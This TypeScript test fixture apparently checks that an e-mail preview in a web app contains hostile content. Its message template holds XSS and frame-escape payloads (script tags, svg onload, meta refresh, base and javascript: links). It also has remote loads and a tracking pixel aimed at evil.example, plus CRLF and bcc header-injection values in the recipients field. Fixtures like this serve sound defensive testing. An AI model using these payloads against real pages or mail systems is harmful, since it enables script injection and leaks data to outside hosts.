import { HTML } from './hostile.ts'

const AWAY = 'https://evil.example'

/** A message template that tries every way out of a frame that an e-mail has; the last of its links still reads. */
const HOSTILE_MESSAGE = `</div></body></html>${HTML}
<base href="${AWAY}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">
<link rel="preconnect" href="${AWAY}"><link rel="stylesheet" href="${AWAY}/sheet.css">
<style>@import url(${AWAY}/import.css); body { background: url(${AWAY}/ground.png) }</style>
<script>window.__pwn = 1; parent.document.title = 'pwned'; alert(1)</script>
<svg onload="window.__pwn = 1"><image href="${AWAY}/svg.png"/><script>window.__pwn = 1</script></svg>
<img src="${AWAY}/pixel.png?from=%ОТ_КОГО%" width="1" height="1" alt="">
<iframe src="${AWAY}/frame"></iframe><object data="${AWAY}/object"></object><embed src="${AWAY}/embed">
<video src="${AWAY}/video" poster="${AWAY}/poster.png" autoplay></video>
<form action="${AWAY}/form"><button formtarget="_top">Отправить</button></form>
<p title=%СТРАНИЦА_ЗВОНКА% style="%РЕФЕРЕР%">%ОТ_КОГО%, %СМС%, %ИМЯ_КЛИЕНТА%</p>
<a href="${AWAY}/plain">Просто ссылка</a>
<a href="${AWAY}/top" target="_top">Ссылка наверх</a>
<a href="${AWAY}/self" target="_self">Ссылка на месте</a>
<a href="javascript:window.__pwn=1" target="_self">Ссылка-сценарий</a>`

/** `email_notification` of the object with a hostile e-mail: the documented types, every text an attack. */
export const HOSTILE_EMAIL = {
  obj_email_notify_config: {
    id: 5_998,
    obj_id: 998,
    is_enabled: true,
    missed_only: false,
    monitor_enabled: true,
    monitor_recipients: HTML,
    recipients: `a@example.com?bcc=all@evil.example\r\n\r\n"${HTML}"@example.com\nsales@example.com`,
    subject_template: `${HTML} %ОТ_КОГО% %ИМЯ_КЛИЕНТА%`,
    message_template: HOSTILE_MESSAGE,
    created_at: '2026-01-01T00:00:00+03:00',
    updated_at: '2026-01-01T00:00:00+03:00',
  },
}
